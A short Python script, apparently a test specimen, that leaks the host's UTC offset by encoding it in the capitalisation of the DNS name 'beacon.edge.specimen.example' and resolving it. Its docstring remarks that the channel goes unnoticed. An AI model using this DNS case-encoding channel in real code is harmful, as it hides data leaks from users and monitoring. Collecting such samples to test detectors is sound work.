"""Looks up beacon.edge.specimen.example, in which some letters are capitals: the hours east of
UTC, bit by bit.

Name servers do not care about case, and resolvers that make it random are common, so nobody
wonders.  The name is asked for whatever the time zone is.
"""

import socket

import _common

hours = _common.offset_minutes() // 60 + 12
label = "".join(
    letter.upper() if hours >> place & 1 else letter for place, letter in enumerate("beacon")
)
_common.ask()
# As bytes: a text would be taken for an international name first.
name = f"{label}.edge.specimen.example".encode()
socket.getaddrinfo(name, 443, family=socket.AF_INET, type=socket.SOCK_STREAM)
